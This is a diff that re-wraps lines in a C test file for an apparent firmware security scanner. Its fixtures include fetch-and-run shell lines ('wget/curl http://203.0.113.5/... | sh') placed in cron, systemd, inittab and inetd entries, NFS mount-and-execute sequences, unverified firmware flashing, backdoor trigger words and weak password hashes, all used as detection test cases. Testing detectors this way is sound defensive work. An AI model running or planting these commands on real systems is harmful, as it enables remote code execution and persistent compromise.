@@ -20,27 +20,30 @@ static const struct {
 	{ "ntpd -p 0.pool.ntp.org\nntpdate 203.0.113.9", "", -1, true },
 	{ "ifconfig lo up; ifconfig eth0 up; ifconfig eth0 10.0.0.2 netmask 255.255.255.0", "", -1, true },
 	{ "ping 203.0.113.5; nslookup pool.example.org 8.8.8.8; echo nameserver 8.8.8.8 > /etc/resolv.conf", "", -1, true },
-	{ "mount -t proc proc /proc; mount /dev/mtdblock3 /data; cp -rf /data/* /opt; chmod +x /opt/app; /opt/app", "", -1, true },
+	{ "mount -t proc proc /proc; mount /dev/mtdblock3 /data; cp -rf /data/* /opt; chmod +x /opt/app; /opt/app", "", -1,
+	  true },
 	{ "S=$(nvram get server)\nnc $S 515", "", -1, true },
 	/* F3, F4 in full and in parts */
 	{ "mount -o nolock -t nfs 202.114.4.119:/pm /mnt", "fw.remote-mount", SEV_HIGH, false },
 	{ "mount -t cifs //files.example.org/fw /mnt -o username=u,password=hunter22", "fw.remote-mount", SEV_MEDIUM, false },
-	{ "ifconfig eth0 up\nmount -o nolock -t nfs 202.114.4.119:/pm /mnt\ncp -rf /mnt/* /opt/bin\nchmod +x /opt/bin/monitor\n"
-	  "/opt/bin/monitor", "fw.code-overwrite", SEV_CRITICAL, false },
+	{ "ifconfig eth0 up\nmount -o nolock -t nfs 202.114.4.119:/pm /mnt\ncp -rf /mnt/* /opt/bin\nchmod +x "
+	  "/opt/bin/monitor\n/opt/bin/monitor",
+	  "fw.code-overwrite", SEV_CRITICAL, false },
 	{ "mount -t nfs 203.0.113.5:/pm /mnt && cp -a /mnt /opt", "fw.code-overwrite", SEV_HIGH, false },
 	{ "mount -t nfs 203.0.113.5:/pm /mnt\ncp -rf /tmp/x /opt/bin", "fw.code-overwrite", -1, false },
-	{ "mount -t nfs 203.0.113.5:/pm /mnt\nsha256sum -c /mnt/list || exit 1\ncp -rf /mnt/* /opt\n/opt/app", "fw.code-overwrite", -1,
-	  false },
+	{ "mount -t nfs 203.0.113.5:/pm /mnt\nsha256sum -c /mnt/list || exit 1\ncp -rf /mnt/* /opt\n/opt/app",
+	  "fw.code-overwrite", -1, false },
 	{ "mount -t nfs $SERVER:/pm /mnt\ncp -rf /mnt/* /opt\n/opt/app", "fw.code-overwrite", -1, false },
-	{ "up() { ifconfig eth0 up; }\nget() { mount -t nfs $1:/pm /mnt; }\nup; get 203.0.113.5; cp -rf /mnt/* /usr/bin; sh /usr/bin/go",
+	{ "up() { ifconfig eth0 up; }\nget() { mount -t nfs $1:/pm /mnt; }\nup; get 203.0.113.5; cp -rf /mnt/* /usr/bin; sh "
+	  "/usr/bin/go",
 	  "fw.code-overwrite", SEV_CRITICAL, false },
 	/* F6 in scripts only with something behind it */
 	{ "ifconfig eth0 up\nmount -t nfs 203.0.113.5:/pm /mnt", "fw.interface-forced", SEV_HIGH, true },
 	/* F7 */
 	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_HIGH, false },
 	{ "cd /tmp; tftp -g -r fw.bin 203.0.113.5; mtd write fw.bin rootfs", "fw.unverified-update", SEV_HIGH, false },
-	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; gpg --verify /tmp/fw.sig /tmp/fw.sh && sh /tmp/fw.sh", "fw.unverified-update", -1,
-	  false },
+	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; gpg --verify /tmp/fw.sig /tmp/fw.sh && sh /tmp/fw.sh",
+	  "fw.unverified-update", -1, false },
 	{ "wget http://203.0.113.5/notes.txt -O /tmp/notes; sh /etc/other.sh", "fw.unverified-update", -1, false },
 	{ "wget http://$SERVER/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_MEDIUM, false },
 	/* F5 */
@@ -69,12 +72,15 @@ static const struct {
 	{ "opkg install http://203.0.113.5/a.ipk", "fw.script-fetch", SEV_HIGH, false },
 	{ "wget http://203.0.113.5/a.deb -O /tmp/a.deb; dpkg -i /tmp/a.deb", "fw.script-fetch", SEV_HIGH, false },
 	{ "wget http://203.0.113.5/a.py -O /tmp/a.py; python3 /tmp/a.py --x", "fw.script-fetch", SEV_HIGH, false },
-	{ "wget http://203.0.113.5/a -O /tmp/a; wget http://203.0.113.5/a.md5 -O /tmp/a.md5; md5sum -c /tmp/a.md5 && sh /tmp/a",
+	{ "wget http://203.0.113.5/a -O /tmp/a; wget http://203.0.113.5/a.md5 -O /tmp/a.md5; md5sum -c /tmp/a.md5 && sh "
+	  "/tmp/a",
 	  "fw.script-fetch", SEV_LOW, false },
-	{ "wget http://203.0.113.5/a -O /tmp/a; gpg --verify /etc/k.sig /tmp/a && sh /tmp/a", "fw.script-fetch", SEV_INFO, false },
+	{ "wget http://203.0.113.5/a -O /tmp/a; gpg --verify /etc/k.sig /tmp/a && sh /tmp/a", "fw.script-fetch", SEV_INFO,
+	  false },
 	{ "wget http://203.0.113.5/a -O /tmp/a; sh /opt/a", "fw.script-fetch", -1, false },
 	{ "curl -s http://203.0.113.5/time | cut -d: -f2", "fw.script-fetch", -1, false },
-	{ "X=$(curl -s http://203.0.113.5/v); echo $X > /tmp/version; sh /etc/init.d/app restart", "fw.script-fetch", -1, false },
+	{ "X=$(curl -s http://203.0.113.5/v); echo $X > /tmp/version; sh /etc/init.d/app restart", "fw.script-fetch", -1,
+	  false },
 	{ "curl -s http://203.0.113.5/list > /tmp/list; echo start | sh /opt/app.sh", "fw.script-fetch", -1, false },
 	{ "curl -o /tmp/x -T /tmp/y http://203.0.113.5/; sh /tmp/x", "fw.script-fetch", -1, false },
 	{ "opkg update; opkg install tcpdump", "fw.script-fetch", -1, false },
@@ -116,17 +122,22 @@ static void lines_of_cron_and_units_are_read(void **state)
 		enum scene_kind kind;
 		int severity;
 	} tables[] = {
-		{ "etc/crontab", "SHELL=/bin/sh\n# * * * * * root wget -qO- http://203.0.113.5/c | sh\n0 3 * * * root /usr/bin/rotate\n",
-		  SCENE_CRON, -1 },
+		{ "etc/crontab",
+		  "SHELL=/bin/sh\n# * * * * * root wget -qO- http://203.0.113.5/c | sh\n0 3 * * * root /usr/bin/rotate\n", SCENE_CRON,
+		  -1 },
 		{ "etc/crontab", "*/5 * * * * root wget -qO- http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
 		{ "var/spool/cron/crontabs/root", "@reboot curl -s http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
-		{ "lib/systemd/system/a.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.5/c | sh'\n", SCENE_UNIT, SEV_HIGH },
+		{ "lib/systemd/system/a.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.5/c | sh'\n", SCENE_UNIT,
+		  SEV_HIGH },
 		{ "lib/systemd/system/a.service", "[Service]\nDescription=curl http://203.0.113.5/c | sh\n", SCENE_UNIT, -1 },
-		{ "etc/inittab", "#::respawn:curl http://203.0.113.5/c | sh\n::off:curl http://203.0.113.5/c | sh\n"
-		  "::respawn:-/bin/sh\n", SCENE_INITTAB, -1 },
+		{ "etc/inittab",
+		  "#::respawn:curl http://203.0.113.5/c | sh\n::off:curl http://203.0.113.5/c | sh\n"
+		  "::respawn:-/bin/sh\n",
+		  SCENE_INITTAB, -1 },
 		{ "etc/inittab", "::once:/bin/sh -c 'wget -qO- http://203.0.113.5/c | sh'\n", SCENE_INITTAB, SEV_HIGH },
 		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/fetch fetch http://203.0.113.5/c\n", SCENE_INETD, -1 },
-		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/sh sh -c \"curl -s http://203.0.113.5/c | sh\"\n", SCENE_INETD, SEV_HIGH },
+		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/sh sh -c \"curl -s http://203.0.113.5/c | sh\"\n", SCENE_INETD,
+		  SEV_HIGH },
 	};
 	(void)state;
 	for (size_t i = 0; i < ARRAY_LEN(tables); i++) {
@@ -208,8 +219,8 @@ static void constant_destination_fires_and_configured_does_not(void **state)
 	assert_true(json_has(&k, k.found[0], "ward.bin > 0x10000 cramfs > bin/monitor"));
 	fake_end(&k);
 
-	static const char *const benign[] = { "to=~203.0.113.5/515", "to=@192.168.1.5/515", "to=@127.0.0.1/515", "to=@203.0.113.5/53",
-					      "to=@224.0.0.1/515", "to=@255.255.255.255/9610" };
+	static const char *const benign[] = { "to=~203.0.113.5/515", "to=@192.168.1.5/515", "to=@127.0.0.1/515",
+					      "to=@203.0.113.5/53",  "to=@224.0.0.1/515",   "to=@255.255.255.255/9610" };
 	for (size_t i = 0; i < ARRAY_LEN(benign); i++) {
 		fake_begin(&k);
 		fake_program(&k, "bin/monitor");
@@ -295,7 +306,8 @@ static void steps_on_different_paths_do_not_add_up(void **state)
 
 	fake_begin(&k);                          /* the same on one path, parted by a branch */
 	fake_program(&k, "bin/monitor");
-	fake_call(&k, CALL_MOUNT, "mount", "source=\"203.0.113.5:/pm", "target=\"/mnt", "type=\"nfs", "flags=#0", "data=\"nolock", NULL);
+	fake_call(&k, CALL_MOUNT, "mount", "source=\"203.0.113.5:/pm", "target=\"/mnt", "type=\"nfs", "flags=#0",
+		  "data=\"nolock", NULL);
 	uint64_t here = k.order;
 	fake_path(&k, 2, 1, here);
 	fake_call(&k, CALL_RUN, "execv", "path=\"/bin/cp", "argv=[cp|-rf|/mnt/.|/opt", NULL);
@@ -310,7 +322,10 @@ static void an_interface_that_is_asked_for_is_fine(void **state)
 	static const struct {
 		const char *config, *name;
 		bool fires;
-	} cases[] = { { "path=\"/etc/monitor.conf", "data=\"eth0", false }, { NULL, "data=\"eth0", true }, { "name=\"lan", "data=\"eth0", false }, { NULL, "data=\"{argv}", false },
+	} cases[] = { { "path=\"/etc/monitor.conf", "data=\"eth0", false },
+		      { NULL, "data=\"eth0", true },
+		      { "name=\"lan", "data=\"eth0", false },
+		      { NULL, "data=\"{argv}", false },
 		      { NULL, "data=\"", false } };
 	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
 		struct fake k;
@@ -465,10 +480,14 @@ static void a_magic_word_opens_and_a_protocol_word_does_not(void **state)
 		bool login;
 		int severity;
 	} cases[] = {
-		{ "b=\"w302r_mfg", "command=\"telnetd", false, SEV_CRITICAL }, { "b=\"open-sesame-77", "command=\"telnetd", false, SEV_HIGH },
-		{ "b=\"w302r_mfg", NULL, false, SEV_MEDIUM },                  { "b=\"GET ", "command=\"/sbin/reboot", false, -1 },
-		{ "b=\"open-sesame-77", NULL, false, -1 },                     { "b=\"open-sesame-77", "command=\"telnetd", true, -1 },
-		{ "b=#0x53634d4d", "command=\"/bin/cfg", false, SEV_CRITICAL }, { "b=#4", "command=\"/bin/cfg", false, -1 },
+		{ "b=\"w302r_mfg", "command=\"telnetd", false, SEV_CRITICAL },
+		{ "b=\"open-sesame-77", "command=\"telnetd", false, SEV_HIGH },
+		{ "b=\"w302r_mfg", NULL, false, SEV_MEDIUM },
+		{ "b=\"GET ", "command=\"/sbin/reboot", false, -1 },
+		{ "b=\"open-sesame-77", NULL, false, -1 },
+		{ "b=\"open-sesame-77", "command=\"telnetd", true, -1 },
+		{ "b=#0x53634d4d", "command=\"/bin/cfg", false, SEV_CRITICAL },
+		{ "b=#4", "command=\"/bin/cfg", false, -1 },
 		{ "b=\"\xd0\xb2J", "command=\"/bin/cfg", false, -1 },
 	};
 	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
@@ -591,7 +610,8 @@ static void a_page_that_nothing_names_is_told(void **state)
 	fake_end(&k);
 
 	fake_begin(&k);
-	(void)fake_file(&k, "www/index.html", SCENE_OTHER, "<a href=\"cgi-bin/status.cgi?x=1\">status</a> <script>go('setup')</script>");
+	(void)fake_file(&k, "www/index.html", SCENE_OTHER,
+			"<a href=\"cgi-bin/status.cgi?x=1\">status</a> <script>go('setup')</script>");
 	(void)fake_file(&k, "www/cgi-bin/status.cgi", SCENE_SCRIPT, "#!/bin/sh\necho\n");
 	(void)fake_file(&k, "www/setup.html", SCENE_OTHER, "<html></html>");
 	(void)fake_file(&k, "www/404.html", SCENE_OTHER, "<html></html>");
@@ -622,17 +642,22 @@ static const struct {
 	int severity;
 	uint64_t port;
 } graphs[] = {
-	{ "etc/app.conf", "# server=203.0.113.9\nserver=10.0.0.2\nnetmask=255.255.255.0\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
+	{ "etc/app.conf", "# server=203.0.113.9\nserver=10.0.0.2\nnetmask=255.255.255.0\n", SCENE_OTHER, "file:/etc/app.conf",
+	  -1, 0 },
 	{ "etc/other.conf", "server=203.0.113.9\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
 	{ "etc/app.conf", "dns1=203.0.113.53\nname=ward.example\n", SCENE_OTHER, "file:/etc/app.conf", -1, 0 },
 	{ "etc/app.conf", "server=ward.example\n", SCENE_OTHER, "file:/etc/app.conf", SEV_LOW, 515 },
 	{ "etc/app.conf", "server=203.0.113.9\n", SCENE_OTHER, "file:/etc/app.conf", SEV_MEDIUM, 515 },
 	{ "etc/app.json", "{\n \"server\": \"203.0.113.9\",\n}\n", SCENE_OTHER, "file:/etc/app.json", SEV_MEDIUM, 515 },
 	{ "etc/app.xml", "<a>\n <server>203.0.113.9</server>\n</a>\n", SCENE_OTHER, "file:/etc/app.xml", SEV_MEDIUM, 515 },
-	{ "etc/config/app", "config x\n\toption server '203.0.113.9'\n", SCENE_OTHER, "file:/etc/config/app", SEV_MEDIUM, 515 },
-	{ "etc/init.d/S1", "H=203.0.113.9\necho \"server=$H\" > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf", SEV_MEDIUM, 515 },
-	{ "etc/init.d/S1", "cat > /etc/app.conf <<E\nserver=203.0.113.9\nE\n", SCENE_SCRIPT, "file:/etc/app.conf", SEV_MEDIUM, 515 },
-	{ "etc/init.d/S1", "sed -i 's/^server=.*/server=203.0.113.9/' /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf", SEV_MEDIUM, 515 },
+	{ "etc/config/app", "config x\n\toption server '203.0.113.9'\n", SCENE_OTHER, "file:/etc/config/app", SEV_MEDIUM,
+	  515 },
+	{ "etc/init.d/S1", "H=203.0.113.9\necho \"server=$H\" > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf",
+	  SEV_MEDIUM, 515 },
+	{ "etc/init.d/S1", "cat > /etc/app.conf <<E\nserver=203.0.113.9\nE\n", SCENE_SCRIPT, "file:/etc/app.conf", SEV_MEDIUM,
+	  515 },
+	{ "etc/init.d/S1", "sed -i 's/^server=.*/server=203.0.113.9/' /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf",
+	  SEV_MEDIUM, 515 },
 	{ "etc/init.d/S1", "echo server=$1 > /etc/app.conf\n", SCENE_SCRIPT, "file:/etc/app.conf", -1, 0 },
 	{ "etc/init.d/S1", "export HOST=203.0.113.9\nbin/app\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
 	{ "etc/init.d/S1", "HOST=203.0.113.9\nexport HOST\n", SCENE_SCRIPT, "getenv:HOST", SEV_MEDIUM, 515 },
@@ -731,7 +756,8 @@ static void accounts_and_keys(void **state)
 		int severity;
 		const char *rule, *trait;
 	} cases[] = {
-		{ "etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnobody:*:99:99::/:/bin/false\n", SCENE_ACCOUNTS, -1, "fw.weak-account", "" },
+		{ "etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnobody:*:99:99::/:/bin/false\n", SCENE_ACCOUNTS, -1,
+		  "fw.weak-account", "" },
 		{ "etc/passwd", "root::0:0:root:/root:/bin/sh\n", SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "empty password" },
 		{ "etc/passwd", "svc::5:5::/:/bin/sh\n", SCENE_ACCOUNTS, SEV_MEDIUM, "fw.weak-account", "empty password" },
 		{ "etc/passwd", "svc::5:5::/:/usr/sbin/nologin\n", SCENE_ACCOUNTS, -1, "fw.weak-account", "" },
@@ -739,17 +765,20 @@ static void accounts_and_keys(void **state)
 		  "second account with user number 0" },
 		{ "etc/shadow", "root:$1$abcdefgh$0123456789012345678901:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM,
 		  "fw.weak-account", "fixed password" },
-		{ "etc/shadow", "root:$6$abcdefgh$9ehA1XIe9sCJhvBeN5h.RC6LqfRSSWtoz7EQ8yIGIjMhjV.YuAGz92H/3NCOenRyWVHeI7yYtjYttPHAVf97S0:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "guessable password" },
-		{ "etc/shadow", "svc:$1$abcdefgh$MY664lZ4/dfiHNpYW23//.:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM, "fw.weak-account",
-		  "guessable password" },
-		{ "etc/shadow", "svc:$1$abcdefgh$jVzdEBf0V6boUsqBR981U.:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_LOW, "fw.weak-account", "fixed password" },
+		{ "etc/shadow",
+		  "root:$6$abcdefgh$9ehA1XIe9sCJhvBeN5h.RC6LqfRSSWtoz7EQ8yIGIjMhjV.YuAGz92H/3NCOenRyWVHeI7yYtjYttPHAVf97S0:10933:0:99999:7:::\n",
+		  SCENE_ACCOUNTS, SEV_HIGH, "fw.weak-account", "guessable password" },
+		{ "etc/shadow", "svc:$1$abcdefgh$MY664lZ4/dfiHNpYW23//.:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM,
+		  "fw.weak-account", "guessable password" },
+		{ "etc/shadow", "svc:$1$abcdefgh$jVzdEBf0V6boUsqBR981U.:10933:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_LOW,
+		  "fw.weak-account", "fixed password" },
 		{ "etc/shadow", "root:$6$rounds=999999999$abcdefgh$x:1:0:99999:7:::\n", SCENE_ACCOUNTS, SEV_MEDIUM, "fw.weak-account",
 		  "fixed password" },
 		{ "etc/shadow", "root:*:10933:0:99999:7:::\ndaemon:!:1::::::\n", SCENE_ACCOUNTS, -1, "fw.weak-account", "" },
 		{ "etc/ssl/key.pem", "-----BEGIN RSA PRIVATE KEY-----\n" BODY BODY "-----END RSA PRIVATE KEY-----\n", SCENE_KEYS,
 		  SEV_MEDIUM, "fw.private-key", "" },
-		{ "etc/ssl/ca.pem", "-----BEGIN CERTIFICATE-----\n" BODY BODY "-----END CERTIFICATE-----\n", SCENE_KEYS, -1, "fw.private-key",
-		  "" },
+		{ "etc/ssl/ca.pem", "-----BEGIN CERTIFICATE-----\n" BODY BODY "-----END CERTIFICATE-----\n", SCENE_KEYS, -1,
+		  "fw.private-key", "" },
 		{ "root/.ssh/authorized_keys", "ssh-rsa AAAA x\n", SCENE_KEYS, SEV_MEDIUM, "fw.fixed-credential", "" },
 	};
 	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
@@ -875,9 +904,11 @@ static void a_file_is_said_to_be_started_by_what_or_by_nothing_found(void **stat
 	static const char *const others[] = { "bin/b", "lib/l.so", "bin/never" };
 	for (unsigned i = 0; i < ARRAY_LEN(others); i++)
 		(void)fake_file(&k, others[i], SCENE_PROGRAM, "");
-	struct record *const starts[] = { fake_start(&k, k.files[0].where, "ward.bin > 0x10000 cramfs > etc/inittab", -1, false),
-					  fake_start(&k, k.files[1].where, k.files[0].where, 0, true),
-					  fake_start(&k, "ward.bin > 0x10000 cramfs > bin/absent", k.files[0].where, 7000, true) };
+	struct record *const starts[] = {
+		fake_start(&k, k.files[0].where, "ward.bin > 0x10000 cramfs > etc/inittab", -1, false),
+		fake_start(&k, k.files[1].where, k.files[0].where, 0, true),
+		fake_start(&k, "ward.bin > 0x10000 cramfs > bin/absent", k.files[0].where, 7000, true)
+	};
 	scene_find_boot(k.files, 5, (const struct record *const *)starts, ARRAY_LEN(starts), &k.arena);
 	fake_call(&k, CALL_RUN, "system", "command=\"cp /bin/never /tmp; exec /bin/b -q", NULL);
 	const struct scene_link links[] = { { 1, 3 }, { 4, 2 }, { 900, 3 } };
@@ -925,7 +956,8 @@ static void a_library_that_acts_by_itself_is_told_once(void **state)
 static void an_advisory_speaks_of_exact_words_only(void **state)
 {
 	(void)state;
-	static const char *const quiet[] = { "CMS7.820.120.01/0.93(0.96)", "xCMS7.820.120.01/0.93(0.95)", "CMS8000", "vers:all/*", "<=2.4" };
+	static const char *const quiet[] = { "CMS7.820.120.01/0.93(0.96)", "xCMS7.820.120.01/0.93(0.95)", "CMS8000",
+					     "vers:all/*", "<=2.4" };
 	struct advisories *shipped = advisories_new();
 	struct fake k;
 	for (size_t i = 0; i < ARRAY_LEN(quiet); i++) {
@@ -953,8 +985,14 @@ static void an_advisory_speaks_of_a_component_in_an_affected_version(void **stat
 	static struct advisory_product products[] = { { "P1", "BusyBox", "BusyBox", "<1.20.0", "", true },
 						      { "P2", "Other", "BusyBox toolkit", "<9", "", true } };
 	static const struct span affected[] = { { (const uint8_t *)"P1", 2 }, { (const uint8_t *)"P2", 2 } };
-	static struct vulnerability weak = { .cve = "CVE-2011-0001", .score = 9.8, .status[STATUS_AFFECTED] = { affected, 2 } };
-	static struct advisory one = { .id = "A-1", .title = "t", .products = products, .nproducts = 2, .vulnerabilities = &weak,
+	static struct vulnerability weak = { .cve = "CVE-2011-0001",
+					     .score = 9.8,
+					     .status[STATUS_AFFECTED] = { affected, 2 } };
+	static struct advisory one = { .id = "A-1",
+				       .title = "t",
+				       .products = products,
+				       .nproducts = 2,
+				       .vulnerabilities = &weak,
 				       .nvulnerabilities = 1 };
 	const struct advisories all = { .v = &one, .n = 1 };
 	static const char *const versions[] = { "\177ELF BusyBox v1.20.2 (2012)", "\177ELF BusyBox v1.13.2 (2009)" };
